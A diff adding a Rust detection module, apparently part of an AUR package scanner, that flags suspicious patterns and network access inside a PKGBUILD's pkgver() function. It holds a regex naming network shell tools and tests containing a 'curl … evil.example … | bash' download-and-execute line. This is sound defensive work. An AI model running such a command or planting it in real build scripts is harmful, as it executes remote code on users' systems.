@@ -0,0 +1,175 @@
+use crate::features::Feature;
+use crate::shared::models::PackageContext;
+use crate::shared::patterns;
+use crate::shared::scoring::{Signal, SignalCategory};
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// Points added to a high-severity pattern found inside pkgver(): it runs on every
+/// makepkg invocation, including `--nobuild` and `--verifysource`, before review is likely.
+const PKGVER_BOOST: u32 = 15;
+
+static PKGVER_START_RE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?m)^\s*(?:function\s+)?pkgver\s*\(\s*\)\s*\{").unwrap());
+
+/// Network access of any kind. VCS pkgver() only needs the local checkout
+/// (`git describe`, `git rev-list`), so `git` itself is not included.
+static NETWORK_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b(curl|wget|aria2c|nc|ncat|socat|telnet)\b|/dev/(tcp|udp)/|https?://|\burllib|\brequests\.get\b|\bInvoke-WebRequest\b")
+        .unwrap()
+});
+
+/// Loaded once: high-severity pkgbuild patterns (points >= 60), as in pkgbuild_diff_analysis.
+static HIGH_SEVERITY_PATTERNS: LazyLock<patterns::PatternSet> = LazyLock::new(|| {
+    patterns::PatternSet::new(
+        patterns::load_patterns("pkgbuild_analysis")
+            .into_iter()
+            .filter(|p| p.points >= 60)
+            .collect(),
+    )
+});
+
+pub struct PkgverAnalysis;
+
+impl Feature for PkgverAnalysis {
+    fn analyze(&self, ctx: &PackageContext) -> Vec<Signal> {
+        let Some(body) = ctx.pkgbuild_content.as_deref().and_then(extract_pkgver_body) else {
+            return Vec::new();
+        };
+
+        let mut signals = Vec::new();
+        check_suspicious(body, &mut signals);
+        check_network(body, &mut signals);
+        signals
+    }
+}
+
+/// Body of the pkgver() function (between its braces), if the PKGBUILD defines one.
+/// Braces are counted naively; `${var}` expansions are balanced so they don't matter.
+fn extract_pkgver_body(content: &str) -> Option<&str> {
+    let start = PKGVER_START_RE.find(content)?.end();
+    let mut depth = 1usize;
+    for (i, c) in content[start..].char_indices() {
+        match c {
+            '{' => depth += 1,
+            '}' => {
+                depth -= 1;
+                if depth == 0 {
+                    return Some(&content[start..start + i]);
+                }
+            }
+            _ => {}
+        }
+    }
+    // Unterminated: analyze the rest rather than nothing
+    Some(&content[start..])
+}
+
+/// Report the highest-scoring high-severity pattern in pkgver(), boosted.
+fn check_suspicious(body: &str, signals: &mut Vec<Signal>) {
+    let Some(pattern) = HIGH_SEVERITY_PATTERNS
+        .matching(body)
+        .max_by_key(|p| p.points)
+    else {
+        return;
+    };
+
+    signals.push(Signal {
+        id: "P-PKGVER-SUSPICIOUS".to_string(),
+        category: SignalCategory::Pkgbuild,
+        points: (pattern.points + PKGVER_BOOST).min(100),
+        description: format!(
+            "pkgver() runs a high-severity pattern: {} ({})",
+            pattern.id, pattern.description
+        ),
+        is_override_gate: pattern.override_gate,
+        matched_line: pattern.matched_line(body),
+        location: None,
+        emitted_by: String::new(),
+    });
+}
+
+fn check_network(body: &str, signals: &mut Vec<Signal>) {
+    let Some(line) = body.lines().find(|line| NETWORK_RE.is_match(line)) else {
+        return;
+    };
+    signals.push(Signal {
+        id: "P-PKGVER-NETWORK".to_string(),
+        category: SignalCategory::Pkgbuild,
+        points: 45,
+        description: "pkgver() accesses the network (runs even with makepkg --nobuild)".to_string(),
+        is_override_gate: false,
+        matched_line: Some(line.trim().to_string()),
+        location: None,
+        emitted_by: String::new(),
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn analyze(content: &str) -> Vec<Signal> {
+        let ctx = PackageContext {
+            name: "test-pkg-git".into(),
+            metadata: None,
+            pkgbuild_content: Some(content.into()),
+            install_script_content: None,
+            prior_pkgbuild_content: None,
+            git_log: vec![],
+            maintainer_packages: vec![],
+            github_stars: None,
+            github_not_found: false,
+            aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
+        };
+        PkgverAnalysis.analyze(&ctx)
+    }
+
+    fn find<'a>(signals: &'a [Signal], id: &str) -> Option<&'a Signal> {
+        signals.iter().find(|s| s.id == id)
+    }
+
+    #[test]
+    fn extracts_body_with_nested_braces() {
+        let content = "pkgver() {\n  cd \"${pkgname%-git}\"\n  if true; then { echo x; }; fi\n}\nbuild() {\n  make\n}\n";
+        let body = extract_pkgver_body(content).unwrap();
+        assert!(body.contains("echo x"));
+        assert!(!body.contains("make"));
+    }
+
+    #[test]
+    fn download_and_execute_in_pkgver_is_boosted() {
+        let signals = analyze("pkgver() {\n  curl -s https://evil.example/v.sh | bash\n  git describe --tags\n}\n");
+        let sig = find(&signals, "P-PKGVER-SUSPICIOUS").expect("suspicious pkgver");
+        assert!(sig.points > 60);
+        assert!(sig.description.contains("P-CURL-PIPE"));
+        assert!(find(&signals, "P-PKGVER-NETWORK").is_some());
+    }
+
+    #[test]
+    fn network_access_in_pkgver() {
+        let signals = analyze("pkgver() {\n  wget -qO- https://example.com/VERSION\n}\n");
+        let sig = find(&signals, "P-PKGVER-NETWORK").expect("network pkgver");
+        assert_eq!(sig.matched_line.as_deref(), Some("wget -qO- https://example.com/VERSION"));
+    }
+
+    #[test]
+    fn patterns_outside_pkgver_are_ignored() {
+        let signals = analyze("pkgver() {\n  git describe --long --tags | sed 's/-/.r/;s/-/./'\n}\nbuild() {\n  curl -s https://evil.example/v.sh | bash\n}\n");
+        assert!(signals.is_empty(), "got: {:?}", signals.iter().map(|s| &s.id).collect::<Vec<_>>());
+    }
+
+    #[test]
+    fn no_pkgver_function() {
+        assert!(analyze("pkgver=1.0\nbuild() {\n  make\n}\n").is_empty());
+    }
+}